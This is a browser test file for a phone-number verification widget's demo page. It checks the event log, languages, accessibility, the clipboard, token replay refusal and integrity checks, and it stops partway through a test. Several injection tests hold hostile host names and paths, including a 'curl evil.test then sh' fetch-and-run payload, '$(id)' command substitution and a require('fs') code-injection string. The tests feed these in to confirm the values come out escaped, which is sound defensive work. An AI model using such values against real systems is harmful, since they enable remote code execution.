// The demo page in Chromium against a real proxy: the sandbox directory fills the widget, the log shows each event.
import { serve, type ServerType } from '@hono/node-server';
import { Hono } from 'hono';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createApp } from '../../server/app.js';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../server/node.js';
import { sandboxDirectory } from '../../server/providers/sandbox-directory.js';
import { buildSite, type BuiltSite } from '../support/site.js';
import { integrityOf } from '../../scripts/bundle.mjs';
import { launchChromium } from '../support/chromium.js';
import { tunnelAdvice } from '../../demo/tunnel.js';
import { snippetsFor } from '../../demo/snippets.js';
import { pageText } from '../../demo/text.js';
import { dashboardText } from '../../demo/dashboard-text.js';
import type { CarrierVerify } from '../../widget/carrier-verify.js';

let site: BuiltSite;
let browser: Browser;
let server: RunningServer;
let page: Page;
const problems: string[] = [];

beforeAll(async () => {
  site = await buildSite();
  server = await startServer({ PORT: '0', HOST: '127.0.0.1' }, { assets: site.assets, log: () => undefined });
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1200, height: 900 } });
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('console', (message) => {
    // A refused verification logs its HTTP status as a resource error; anything else is a problem.
    if (message.type() === 'error' && !/status of (502|504)/.test(message.text())) problems.push(message.text());
  });
  await page.goto(`http://127.0.0.1:${server.port}/`);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await site?.remove();
});

/** The log's entries for outcomes: a row filled over a verified pair also logs the cv-cleared of its token. */
const outcomes = () => page.locator('#log li:not([data-event="cv-cleared"])');

async function tryRow(text: string): Promise<string> {
  const before = await outcomes().count();
  await page.locator('#directory tbody tr', { hasText: text }).first().click();
  await page.getByRole('button', { name: /^(验证|Verify)/ }).first().click();
  await expect.poll(() => outcomes().count(), { timeout: 8000 }).toBeGreaterThan(before);
  return outcomes().first().innerText();
}

describe('the demo page', () => {
  // Each test starts from the page's own switches, whichever ran before it (the language test leaves English).
  beforeEach(async () => {
    await page.selectOption('#lang', 'zh-CN');
    await page.selectOption('#theme', 'light');
  });

  it('lists the sandbox directory and fills the widget from a row', async () => {
    const directory = await page.locator('#directory tbody').innerText();
    for (const entry of sandboxDirectory) expect(directory).toContain(entry.phoneNumber);
    await page.locator('#directory tbody tr', { hasText: '19212345678' }).first().click();
    expect(await page.getByLabel('姓名').inputValue()).toBe('买买提·艾力');
    expect(await page.getByLabel('手机号').inputValue()).toBe('192 1234 5678');
  });

  it('gives, for each row of the sandbox directory, the event and code the row says', { timeout: 60_000 }, async () => {
    // A proxy of its own: the rows' requests count on no other test's rate limits.
    const own = await startServer({ PORT: '0', HOST: '127.0.0.1' }, { assets: site.assets, log: () => undefined });
    const other = await browser.newPage({ locale: 'en-US' });
    try {
      await other.goto(`http://127.0.0.1:${own.port}/`);
      await other.selectOption('#lang', 'en');
      // Each outcome as the directory writes it: `cv-mismatch (FP03333)`, `cv-invalid (phone, not-mobile)`.
      await other.evaluate(() => {
        const seen: string[] = [];
        Object.assign(window, { seen });
        for (const type of ['cv-verified', 'cv-mismatch', 'cv-not-found', 'cv-invalid', 'cv-error']) {
          document.querySelector('carrier-verify')!.addEventListener(type, (event) => {
            const detail = (event as CustomEvent<{ code?: string; field?: string; reason?: string }>).detail;
            seen.push(`${type} (${detail.code ?? `${detail.field}, ${detail.reason}`})`);
          });
        }
      });
      const seen = () => other.evaluate(() => (window as unknown as { seen: string[] }).seen);
      const rows = other.locator('#directory tbody tr');
      const count = await rows.count();
      expect(count).toBe(sandboxDirectory.length + 6);
      for (let i = 0; i < count; i += 1) {
        // The timeout's row says when its answer comes, which the event does not carry.
        const expected = (await rows.nth(i).locator('.expect').innerText()).replace(/, after 3 s\)$/, ')');
        await rows.nth(i).click();
        await other.getByRole('button', { name: /^Verify/ }).first().click();
        await expect.poll(async () => (await seen()).length, { timeout: 8000 }).toBe(i + 1);
        expect((await seen())[i]).toBe(expected);
      }
    } finally {
      await other.close();
      await own.close();
    }
  });

  it('fills the widget from a row by keyboard, each row a named button', async () => {
    const fill = page.getByRole('button', { name: '18612345678 李四：填入组件' });
    await fill.focus();
    await page.keyboard.press('Enter');
    expect(await page.getByLabel('姓名').inputValue()).toBe('李四');
    expect(await page.getByLabel('手机号').inputValue()).toBe('186 1234 5678');
    await page.getByRole('button', { name: '13312345678 王五：填入组件' }).focus();
    await page.keyboard.press('Space');
    expect(await page.getByLabel('姓名').inputValue()).toBe('王五');
  });

  it('logs each outcome with its detail', { timeout: 30_000 }, async () => {
    const verified = await tryRow('13800138000');
    expect(verified).toContain('cv-verified');
    expect(verified).toContain('"phoneMasked": "138****8000"');
    expect(verified).not.toMatch(/"token": "[\w-]+\.[\w-]+\.[\w-]+"/);
    expect(await tryRow('13900139000')).toContain('cv-not-found');
    expect(await tryRow('13800000500')).toContain('UPSTREAM_ERROR');
    expect(await tryRow('12345678901')).toContain('"reason": "not-mobile"');
    // Each detail wraps within the log: one that scrolled sideways would be a tab stop of its own, with no name.
    for (const width of [1200, 320]) {
      await page.setViewportSize({ width, height: 900 });
      const sideways = await page.$$eval('#log pre', (pres) => pres.filter((pre) => pre.scrollWidth > pre.clientWidth).map((pre) => pre.textContent));
      expect(sideways, `${width} px`).toEqual([]);
    }
    await page.setViewportSize({ width: 1200, height: 900 });
    // The log scrolls once it is long: it is named, and reached by keyboard in any browser, to be scrolled.
    const log = page.getByRole('list', { name: '事件' });
    await log.focus();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('log');
  });

  it('shows what its form would post, and what siteverify tells the backend of it: yes once, then a replay refused', async () => {
    await tryRow('18612345678');
    const submit = page.getByRole('button', { name: /^提交表单/ });
    const answer = page.locator('#form-output-answer');
    await submit.click();
    // What the form would post, then, when it comes, siteverify's verdict in a few words: said in the status a screen
    // reader speaks, where the whole answer, shown below, is not.
    await expect.poll(() => page.locator('#form-output').innerText()).toMatch(
      /^表单会把 carrier-verify-token（\d+ 个字符）、real_name 李四 和 mobile 18612345678 发送到你的后端，后端用 siteverify 核对：通过（已验证，令牌已使用）。$/,
    );
    await expect.poll(() => answer.innerText()).toMatch(/^POST \/api\/siteverify → 200\n/);
    expect(await page.getByRole('status').filter({ hasText: '通过（已验证' }).count()).toBe(1);
    expect(await page.getByRole('status').filter({ hasText: 'POST /api/siteverify' }).count()).toBe(0);
    expect(JSON.parse((await answer.innerText()).split('\n').slice(1).join('\n'))).toMatchObject({
      success: true, code: 'FP00000', phoneMasked: '186****5678', siteKey: 'sandbox', errors: [],
    });
    // The answer wraps within the form's column: on a phone it widens nothing.
    await page.setViewportSize({ width: 320, height: 900 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    await page.setViewportSize({ width: 1200, height: 900 });
    // Said again in the language chosen after it, as the rest of the page is.
    await page.selectOption('#lang', 'en');
    expect(await page.locator('#form-output').innerText()).toMatch(/^The form would post carrier-verify-token \(\d+ chars\), real_name 李四 and mobile 18612345678 to your backend/);
    await page.selectOption('#lang', 'zh-CN');
    expect(await page.locator('#form-output').innerText()).toMatch(/^表单会把 carrier-verify-token（\d+ 个字符）/);
    await submit.click();
    await expect.poll(() => answer.innerText()).toContain('"timeout-or-duplicate"');
    expect(await answer.innerText()).toContain('"success": false');
    await expect.poll(() => page.locator('#form-output').innerText()).toMatch(/核对：不通过（timeout-or-duplicate）。$/);
    // Change drops the token, and what was said of it.
    await page.locator('carrier-verify').getByRole('button', { name: '修改' }).click();
    await expect.poll(() => page.locator('#form-output').innerText()).toBe('');
    expect(await answer.isVisible()).toBe(false);
  });

  it('opened at another address than localhost, says at once why it is refused and how to open it at localhost, which works', { timeout: 30_000 }, async () => {
    const remote = await launchChromium({ hosts: ['devbox.example'] });
    try {
      const other = await remote.newPage();
      // Before any verification: the page can tell from its own address.
      await other.goto(`http://devbox.example:${server.port}/`);
      expect(await other.getByRole('alert').isVisible()).toBe(true);
      const attempt = async (url: string) => {
        await other.goto(url);
        await other.locator('#directory tbody tr', { hasText: '13800138000' }).first().click();
        await other.getByRole('button', { name: /^验证/ }).click();
        await expect.poll(() => other.locator('#log li').count(), { timeout: 8000 }).toBeGreaterThan(0);
        return other.locator('#log li').first().innerText();
      };
      expect(await attempt(`http://devbox.example:${server.port}/`)).toContain('ORIGIN_NOT_ALLOWED');
      const help = other.getByRole('alert');
      expect(await help.isVisible()).toBe(true);
      expect(await help.innerText()).toContain(`因此会拒绝本页的来源 http://devbox.example:${server.port}。`);
      expect(await other.locator('#origin-help-tunnel').innerText()).toBe(`ssh -L ${server.port}:localhost:${server.port} devbox.example`);
      // Where it says to open it, the page verifies, and says nothing of origins.
      const local = await other.locator('#origin-help-local').innerText();
      expect(local).toBe(`http://localhost:${server.port}/`);
      expect(await attempt(local)).toContain('cv-verified');
      expect(await other.getByRole('alert').isVisible()).toBe(false);
    } finally {
      await remote.close();
    }
  });

  it('says, when the form is sent with the widget disabled, that a disabled control posts nothing and holds nothing back', async () => {
    const page = await browser.newPage({ locale: 'en-US' });
    try {
      await page.goto(`http://127.0.0.1:${server.port}/`);
      await page.selectOption('#lang', 'en');
      await page.locator('#disabled').check();
      // `required` is ticked, yet the form is sent: a disabled control is no part of it.
      await page.getByRole('button', { name: /^Submit the form/ }).click();
      expect(await page.locator('#form-output').innerText()).toBe('Nothing from the widget: a disabled form control posts nothing, and required does not hold the form back.');
      // Not required, it is still the disabled control that posts nothing.
      await page.locator('#required').uncheck();
      await page.getByRole('button', { name: /^Submit the form/ }).click();
      expect(await page.locator('#form-output').innerText()).toBe('Nothing from the widget: a disabled form control posts nothing, and required does not hold the form back.');
      await page.locator('#disabled').uncheck();
      await page.locator('#required').uncheck();
      await page.getByRole('button', { name: /^Submit the form/ }).click();
      expect(await page.locator('#form-output').innerText()).toBe('No token yet: verify first.');
    } finally {
      await page.close();
    }
  });

  it('fits a 320 px phone screen without scrolling sideways', async () => {
    const narrow = await browser.newPage({ viewport: { width: 320, height: 640 } });
    try {
      await narrow.goto(`http://127.0.0.1:${server.port}/`);
      await narrow.locator('carrier-verify').waitFor();
      expect(await narrow.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    } finally {
      await narrow.close();
    }
  });

  it('fits a 320 px phone screen with text at twice its size: the number fits its field, a wide table scrolls in its card', async () => {
    const narrow = await browser.newPage({ viewport: { width: 320, height: 640 } });
    try {
      await narrow.goto(`http://127.0.0.1:${server.port}/`);
      await narrow.locator('carrier-verify').waitFor();
      await narrow.evaluate(() => {
        document.documentElement.style.fontSize = '200%';
        (document.querySelector('carrier-verify') as unknown as { fill(pair: object): void }).fill({ name: '买买提·艾力', phoneNumber: '19212345678' });
      });
      const fits = await narrow.evaluate(() => {
        const phone = document.querySelector('carrier-verify')!.shadowRoot!.querySelector('#phone')!;
        const controls = [...document.querySelectorAll('.controls label')].map((label) => label.getBoundingClientRect().right);
        // The directory's expected outcome stays a column of words (cv-verified on one line), not one letter a line.
        const outcome = document.querySelector<HTMLElement>('#directory tbody td:last-child')!;
        const words = outcome.getBoundingClientRect().width >= 6 * parseFloat(getComputedStyle(outcome).fontSize);
        // The page's own buttons and selects grow with the text, as a browser's own (a fixed 13.33 px) would not.
        const size = (selector: string) => parseFloat(getComputedStyle(document.querySelector(selector)!).fontSize);
        const controlText = [size('#lang'), size('#copy')].every((px) => px >= size('main'));
        // The table scrolls sideways in its card: from the keyboard too, as a region it can focus.
        const box = document.querySelector<HTMLElement>('#directory')!.parentElement!;
        const keyboard = box.scrollWidth > box.clientWidth && box.tabIndex === 0 && box.getAttribute('role') === 'region';
        return { page: document.documentElement.scrollWidth, phone: phone.scrollWidth <= phone.clientWidth, controls: Math.max(...controls) <= 320, words, controlText, keyboard };
      });
      expect(fits).toEqual({ page: 320, phone: true, controls: true, words: true, controlText: true, keyboard: true });
    } finally {
      await narrow.close();
    }
  });

  it('applies the language and theme its switches show when the page is loaded again on Back', { timeout: 30_000 }, async () => {
    const other = await browser.newPage();
    try {
      await other.goto(`http://127.0.0.1:${server.port}/`);
      await other.selectOption('#lang', 'en');
      await other.selectOption('#theme', 'dark');
      await other.goto(`http://127.0.0.1:${server.port}/dashboard`);
      // Playwright's pages keep no back/forward cache: Back loads the page again, and the browser hands the switches back.
      await other.goBack();
      await other.locator('carrier-verify').waitFor();
      const shown = () =>
        other.evaluate(() => {
          const widget = document.querySelector('carrier-verify') as unknown as { lang: string; theme: string };
          const select = (id: string) => document.querySelector<HTMLSelectElement>(id)!.value;
          return [select('#lang'), widget.lang, select('#theme'), widget.theme, document.documentElement.dataset.theme];
        });
      await expect.poll(shown).toEqual(['en', 'en', 'dark', 'dark', 'dark']);
      expect(await other.locator('#verify-label').innerText()).toBe('Verify');
    } finally {
      await other.close();
    }
  });

  it('copies the code shown to the clipboard, or, where the clipboard is refused, selects it for Ctrl+C', async () => {
    const context = await browser.newContext({ locale: 'en-US', viewport: { width: 1200, height: 900 } });
    try {
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: `http://127.0.0.1:${server.port}` });
      const allowed = await context.newPage();
      await allowed.goto(`http://127.0.0.1:${server.port}/`);
      await allowed.selectOption('#lang', 'en');
      await allowed.locator('#copy').click();
      await expect.poll(() => allowed.locator('#copy-status').innerText()).toBe('Copied');
      const snippet = await allowed.locator('#snippet').textContent();
      expect(snippet).toContain('<carrier-verify');
      expect(await allowed.evaluate(() => navigator.clipboard.readText())).toBe(snippet);
      // The code of the tab shown, not the first tab's.
      await allowed.getByRole('tab', { name: 'React' }).click();
      await allowed.locator('#copy').click();
      const react = await allowed.locator('#snippet').textContent();
      expect(react).toContain("'carrier-verify/react'");
      await expect.poll(() => allowed.evaluate(() => navigator.clipboard.readText())).toBe(react);

      // A browser that refuses the clipboard (an insecure origin, a denied permission).
      const refused = await context.newPage();
      await refused.addInitScript(() => {
        Object.defineProperty(navigator, 'clipboard', { value: { writeText: () => Promise.reject(new DOMException('denied', 'NotAllowedError')) } });
      });
      await refused.goto(`http://127.0.0.1:${server.port}/`);
      await refused.selectOption('#lang', 'en');
      await refused.locator('#copy').click();
      await expect.poll(() => refused.locator('#copy-status').innerText()).toMatch(/Ctrl\+C/);
      expect(await refused.evaluate(() => getSelection()?.toString())).toBe(await refused.locator('#snippet').textContent());
    } finally {
      await context.close();
    }
  });

  it('empties the event log with Clear, and takes the keyboard to it only while it holds events', async () => {
    const log = page.locator('#log');
    // Empty, the log is no Tab stop: the focus would go out of sight on a list of no height.
    await page.locator('#clear-log').click();
    expect(await log.getAttribute('tabindex')).toBeNull();
    await page.locator('carrier-verify').locator('#phone').fill('138');
    await page.locator('carrier-verify').getByRole('button').first().click();
    await expect.poll(() => log.locator(':scope > *').count()).toBeGreaterThan(0);
    expect(await log.getAttribute('tabindex')).toBe('0');
    await page.locator('#clear-log').click();
    expect(await log.locator(':scope > *').count()).toBe(0);
    expect(await log.getAttribute('tabindex')).toBeNull();
  });

  it('keeps each copy\'s word for its full two seconds, a second copy included', async () => {
    const status = page.locator('#copy-status');
    await page.locator('#copy').click();
    await expect.poll(() => status.innerText()).not.toBe('');
    await page.waitForTimeout(1500);
    await page.locator('#copy').click();
    await page.waitForTimeout(800);
    expect(await status.innerText()).not.toBe('');
    await expect.poll(() => status.innerText(), { timeout: 3000 }).toBe('');
  });

  it('switches the widget\'s language and offers the code to copy', async () => {
    await page.selectOption('#lang', 'en');
    await expect.poll(() => page.getByLabel('Mobile number').count()).toBe(1);
    // The page speaks the language chosen; its instruction names the widget's button as shown.
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('en');
    expect(await page.locator('#directory-help').innerText()).toBe('Choose a row to fill the widget, then press Verify.');
    for (const [tab, text] of [['Script tag', 'carrier-verify.js'], ['React', "'carrier-verify/react'"], ['Vue', "'carrier-verify/vue'"]] as const) {
      await page.getByRole('tab', { name: tab }).click();
      await expect.poll(() => page.locator('#snippet').innerText()).toContain(text);
    }
    // Named for what its tabs hold, the backend's code among them: not "framework".
    expect(await page.getByRole('tablist', { name: 'Code examples' }).count()).toBe(1);
    // From the keyboard: Home and End to the first and the last tab, the arrows around.
    await page.keyboard.press('End');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Backend (siteverify)');
    await page.keyboard.press('Home');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Script tag');
    await page.keyboard.press('ArrowLeft');
    expect([await page.evaluate(() => document.activeElement?.getAttribute('aria-selected')), await page.evaluate(() => document.activeElement?.textContent)]).toEqual(['true', 'Backend (siteverify)']);
    for (const next of ['Script tag', 'React']) {
      await page.keyboard.press('ArrowRight');
      expect([await page.evaluate(() => document.activeElement?.getAttribute('aria-selected')), await page.evaluate(() => document.activeElement?.textContent)]).toEqual(['true', next]);
    }
    expect(problems).toEqual([]);
  });

  it('puts the whole page in the language chosen, not only the widget, and keeps it and the theme on reload', { timeout: 30_000 }, async () => {
    const other = await browser.newPage({ locale: 'en-US' });
    try {
      await other.goto(`http://127.0.0.1:${server.port}/`);
      await other.locator('carrier-verify').waitFor();
      const headings = () => other.getByRole('heading', { level: 2 }).allInnerTexts();
      // An English browser gets the page in 简体中文 at first, as the widget's default is; English is a choice.
      expect(await headings()).toEqual(['试一试', '沙盒名录', '事件', '嵌入代码']);
      await other.selectOption('#lang', 'en');
      await expect.poll(headings).toEqual(['Try it', 'Sandbox directory', 'Events', 'Embed it']);
      expect(await other.getByRole('button', { name: 'Verify' }).count()).toBe(1);
      await other.selectOption('#lang', 'zh-TW');
      await expect.poll(headings).toEqual(['試試看', '沙盒名錄', '事件', '嵌入程式碼']);
      expect(await other.evaluate(() => [document.documentElement.lang, document.title])).toEqual(['zh-TW', 'carrier-verify · 運營商二要素核驗 · 示範']);
      expect(await other.locator('#directory th').allInnerTexts()).toEqual(['手機號碼', '姓名', '預期事件']);
      expect(await other.locator('#directory-help').innerText()).toBe('選擇一列填入元件，然後點選「驗證」。');
      expect(await other.locator('#directory tbody tr', { hasText: '13800000504' }).innerText()).toContain('cv-error (UPSTREAM_TIMEOUT, 3 秒後)');
      expect(await other.getByRole('button', { name: '18612345678 李四：填入元件' }).count()).toBe(1);
      expect(await other.getByRole('tab').allInnerTexts()).toEqual(['script 標籤', 'React', 'Vue', '後端（siteverify）']);
      expect(await other.getByRole('list', { name: '事件' }).count()).toBe(1);
      // No English left in the page's own words: only names of things (the product, code, the frameworks, IP) and the
      // language switch's own label, for a visitor who reads none of the others.
      const latin = await other.evaluate(() => {
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        const words = new Set<string>();
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          if (node.parentElement!.closest('pre, code, td, option, [hidden]')) continue;
          for (const word of node.textContent!.match(/[A-Za-z][\w-]*/g) ?? []) words.add(word);
        }
        return [...words].sort();
      });
      expect(latin).toEqual(['IP', 'Language', 'React', 'Vue', 'carrier-verify', 'sandbox', 'script', 'siteverify']);
      expect(await other.locator('#theme option').allInnerTexts()).toEqual(['淺色', '深色', '跟隨系統']);
      // The log's times too.
      await other.locator('#directory tbody tr', { hasText: '12345678901' }).click();
      await other.getByRole('button', { name: '驗證' }).click();
      await expect.poll(() => other.locator('#log li strong').first().innerText()).toMatch(/^(上午|下午)\d+:\d\d:\d\d cv-invalid$/);
      // Chosen once, kept: the page and the widget come back in that language and theme.
      await other.selectOption('#theme', 'dark');
      await other.reload();
      await other.locator('carrier-verify').waitFor();
      await expect.poll(headings).toEqual(['試試看', '沙盒名錄', '事件', '嵌入程式碼']);
      expect(await other.evaluate(() => {
        const widget = document.querySelector('carrier-verify')!;
        return [widget.lang, widget.theme, document.documentElement.dataset.theme, document.querySelector<HTMLSelectElement>('#theme')!.value];
      })).toEqual(['zh-TW', 'dark', 'dark', 'dark']);
      expect(await other.getByLabel('手機號碼').count()).toBe(1);
    } finally {
      await other.close();
    }
  });

  it('opens at first in the browser\'s language and the system\'s theme', async () => {
    const other = await browser.newPage({ locale: 'zh-HK', colorScheme: 'dark' });
    try {
      await other.goto(`http://127.0.0.1:${server.port}/`);
      await other.locator('carrier-verify').waitFor();
      expect(await other.getByRole('heading', { level: 2 }).first().innerText()).toBe('試試看');
      expect(await other.getByRole('button', { name: '驗證' }).count()).toBe(1);
      expect(await other.evaluate(() => [document.querySelector('carrier-verify')!.theme, getComputedStyle(document.body).backgroundColor])).toEqual(['auto', 'rgb(13, 17, 23)']);
    } finally {
      await other.close();
    }
  });

  it('offers code that works as pasted, for this proxy: the script tag on a page of another localhost origin, and the backend that checks its token with siteverify', { timeout: 30_000 }, async () => {
    const proxy = `http://127.0.0.1:${server.port}/`;
    const snippet = async (tab: string) => {
      await page.locator(tab).click();
      return page.locator('#snippet').innerText();
    };
    const html = await snippet('#tab-html');
    const backend = await snippet('#tab-backend');
    for (const text of [await snippet('#tab-react'), await snippet('#tab-vue'), html]) {
      expect(text).toContain(`endpoint="${proxy}api/verify"`);
      expect(text).toMatch(/site-key="sandbox"|siteKey="sandbox"/);
      expect(text).not.toContain('YOUR_');
    }
    expect(backend).toContain(`fetch('${proxy}api/siteverify'`);
    // A shop of its own origin: its signup page is the script-tag code as copied; its backend, the backend code.
    const { signup } = (await import(/* @vite-ignore */ `data:text/javascript,${encodeURIComponent(backend)}`)) as { signup: (request: Request) => Promise<Response> };
    const posted: string[] = [];
    const shop = createServer((req, res) => {
      if (req.method !== 'POST') return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<!doctype html><html lang="en"><body>${html}</body></html>`);
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', async () => {
        const body = Buffer.concat(chunks).toString();
        posted.push(body);
        const answer = await signup(new Request(`http://shop${req.url}`, { method: 'POST', headers: { 'content-type': req.headers['content-type']! }, body }));
        res.writeHead(answer.status, { 'content-type': 'text/plain; charset=utf-8' }).end(await answer.text());
      });
    });
    await new Promise<void>((resolve) => shop.listen(0, '127.0.0.1', resolve));
    const other = await browser.newPage();
    try {
      await other.goto(`http://127.0.0.1:${(shop.address() as AddressInfo).port}/`);
      await other.getByLabel('Name').fill('王五');
      await other.getByLabel('Mobile number').fill('13312345678');
      await other.getByRole('button', { name: 'Verify' }).click();
      await expect.poll(() => other.evaluate(() => document.querySelector('carrier-verify')!.status)).toBe('verified');
      await other.getByRole('button', { name: 'Sign up' }).click();
      await other.waitForURL(/\/signup$/);
      expect(await other.locator('body').innerText()).toBe('Verified 133****5678');
      // The same form again, a replay: refused.
      const again = await signup(new Request('http://shop/signup', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: posted[0] }));
      expect([again.status, await again.text()]).toEqual([403, 'Not verified: timeout-or-duplicate']);
      // The backend code for a wrong address: the proxy's 404 is no verdict, and lets no one in.
      const astray = snippetsFor(`${proxy}kyc/`).backend;
      const { signup: lost } = (await import(/* @vite-ignore */ `data:text/javascript,${encodeURIComponent(astray)}`)) as { signup: (request: Request) => Promise<Response> };
      const unanswered = await lost(new Request('http://shop/signup', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: posted[0] }));
      expect([unanswered.status, await unanswered.text()]).toEqual([502, 'No answer from siteverify (HTTP 404)']);
    } finally {
      await other.close();
      shop.close();
    }
  });

  it('sets the attributes its boxes name: required, which keeps an unverified form from being sent, and disabled', async () => {
    const widget = page.locator('carrier-verify');
    await widget.evaluate((element: CarrierVerify) => element.reset());
    const formValid = () => page.evaluate(() => document.querySelector<HTMLFormElement>('#signup')!.checkValidity());
    expect([await page.locator('#required').isChecked(), await formValid()]).toEqual([true, false]);
    await page.getByLabel('必须先验证').uncheck();
    expect([await widget.evaluate((element: CarrierVerify) => element.required), await formValid()]).toEqual([false, true]);
    await page.getByRole('button', { name: /^提交表单/ }).click();
    await expect.poll(() => page.locator('#form-output').innerText()).toBe('还没有令牌：请先验证。');
    await page.getByLabel('必须先验证').check();
    expect(await formValid()).toBe(false);
    await page.getByLabel('禁用').check();
    expect(await widget.evaluate((element: CarrierVerify) => [element.disabled, element.hasAttribute('disabled')])).toEqual([true, true]);
    expect(await widget.getByLabel('姓名').isDisabled()).toBe(true);
    await page.getByLabel('禁用').uncheck();
    expect(await widget.getByLabel('姓名').isDisabled()).toBe(false);
    // Named in the page's language, the attribute as it is written.
    await page.selectOption('#lang', 'en');
    expect(await page.locator('.controls').innerText()).toContain('Require verification (required)');
  });

  it('has controls a finger can press on a phone: 44 px each, the directory\'s rows too', async () => {
    const phone = await browser.newPage({ viewport: { width: 375, height: 812 }, isMobile: true, hasTouch: true });
    try {
      await phone.goto(`http://127.0.0.1:${server.port}/`);
      await phone.locator('carrier-verify').waitFor();
      const small = await phone.evaluate(() =>
        Array.from(document.querySelectorAll('select, button, #directory tbody tr, .controls label:has(input)'))
          .filter((element) => !element.matches('button.fill'))
          .map((element) => ({ what: element.id || element.textContent!.trim().slice(0, 20), box: element.getBoundingClientRect() }))
          .filter(({ box }) => box.width < 44 || box.height < 44)
          .map(({ what, box }) => `${what} ${Math.round(box.width)}x${Math.round(box.height)}`),
      );
      expect(small).toEqual([]);
      expect(await phone.evaluate(() => document.documentElement.scrollWidth)).toBe(375);
    } finally {
      await phone.close();
    }
  });
});

describe('the tunnel the demo page advises when opened away from localhost', () => {
  it.each([
    ['http://devbox.example:8787/', 'ssh -L 8787:localhost:8787 devbox.example', 'http://localhost:8787/'],
    // A default port, which only root may open locally: the tunnel starts at 8787; the scheme and the path are kept.
    ['https://devbox.example/kyc/', 'ssh -L 8787:localhost:443 devbox.example', 'https://localhost:8787/kyc/'],
    ['http://devbox.example/', 'ssh -L 8787:localhost:80 devbox.example', 'http://localhost:8787/'],
    // An IPv6 address, which ssh takes without its brackets.
    ['http://[2001:db8::1]:9000/', 'ssh -L 9000:localhost:9000 2001:db8::1', 'http://localhost:9000/'],
    // A host name a link chose, which a browser takes and a shell would run: quoted, so that it names a host only.
    ['http://a;{curl,-so,x,evil.test};{sh,x};.evil.test:8802/', "ssh -L 8802:localhost:8802 'a;{curl,-so,x,evil.test};{sh,x};.evil.test'", 'http://localhost:8802/'],
    // No host name begins with a dash: one that would is no option to ssh.
    ['http://-fn:8802/', 'ssh -L 8802:localhost:8802 -- -fn', 'http://localhost:8802/'],
    ["http://it's$(id).test:8802/", "ssh -L 8802:localhost:8802 'it'\\''s$(id).test'", 'http://localhost:8802/'],
  ])('for %s: %s, then %s', (page, command, url) => {
    expect(tunnelAdvice(new URL(page))).toEqual({ command, url });
  });
});

describe('the code to copy on the demo page', () => {
  it('names, in the code for each framework, the fields the backend code reads: real_name and mobile', () => {
    const snippets = snippetsFor('http://localhost:8787/');
    expect(snippets.backend).toContain("form.get('real_name')");
    expect(snippets.backend).toContain("form.get('mobile')");
    // The script tag and Vue write the attributes, React its camelCase props.
    for (const code of [snippets.html, snippets.vue]) expect(code).toContain('name-field="real_name" phone-field="mobile"');
    expect(snippets.react).toMatch(/\snameField="real_name"\s+phoneField="mobile"\s/);
  });

  it('writes the address of a proxy mounted under a path a link chose so that it ends no string, attribute or comment', () => {
    // Mounted under a route parameter (`/:tenant/kyc`), the page's address is the link's.
    const snippets = snippetsFor("http://localhost:8805/x'+require('fs').writeFileSync('PWNED','')+`${1}`\"-->/kyc/");
    const address = 'http://localhost:8805/x%27%2Brequire%28%27fs%27%29.writeFileSync%28%27PWNED%27%2C%27%27%29%2B%60%24%7B1%7D%60%22--%3E/kyc/';
    expect(snippets.backend).toContain(`fetch('${address}api/siteverify'`);
    expect(snippets.html).toContain(`<script src="${address}carrier-verify.js"></script>`);
    for (const code of Object.values(snippets)) expect(code).not.toContain('require(');
    // An address as it usually is stays as it is.
    expect(snippetsFor('http://[::1]:8787/kyc/').backend).toContain("fetch('http://[::1]:8787/kyc/api/siteverify'");
  });
});

describe('the script-tag bundle on another site', () => {
  /** A page served by another server on this machine (another origin), loading the proxy's bundle with `integrity`. */
  async function siteLoading(integrity: string, endpoint = '/api/verify'): Promise<Page> {
    const proxy = `http://127.0.0.1:${server.port}`;
    const html = `<!doctype html><html lang="en"><head><title>shop</title></head><body>
      <form><carrier-verify lang="en" endpoint="${proxy}${endpoint}"></carrier-verify></form>
      <script src="${proxy}/carrier-verify.js" integrity="${integrity}" crossorigin="anonymous"
        onload="document.title = 'loaded'" onerror="document.title = 'refused'"></script>
    </body></html>`;
    const shop = createServer((_, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
    await new Promise<void>((resolve) => shop.listen(0, '127.0.0.1', resolve));
    const other = await browser.newPage();
    other.on('close', () => shop.close());
    await other.goto(`http://127.0.0.1:${(shop.address() as AddressInfo).port}/signup`);
    await expect.poll(() => other.title()).not.toBe('shop');
    return other;
  }

  it('loads with Subresource Integrity from the proxy, which lets any origin read it', async () => {
    const bundle = new Uint8Array(await (await fetch(`http://127.0.0.1:${server.port}/carrier-verify.js`)).arrayBuffer());
    const shop = await siteLoading(integrityOf(bundle));
    try {
      expect(await shop.title()).toBe('loaded');
      await expect.poll(() => shop.getByRole('button', { name: 'Verify' }).count()).toBe(1);
    } finally {
      await shop.close();
    }
  });

  it('says NOT_FOUND for an endpoint mistyped, and what it should be, rather than that it could not connect', async () => {
    const bundle = new Uint8Array(await (await fetch(`http://127.0.0.1:${server.port}/carrier-verify.js`)).arrayBuffer());
    for (const endpoint of ['/api/verfy', '']) {
      const shop = await siteLoading(integrityOf(bundle), endpoint);
      try {
        await expect.poll(() => shop.getByRole('button', { name: 'Verify' }).count()).toBe(1);
        const outcome = await shop.evaluate(() => {
          const element = document.querySelector('carrier-verify') as CarrierVerify;
          element.fill({ name: '张三', phoneNumber: '13800138000' });
          return element.verify();
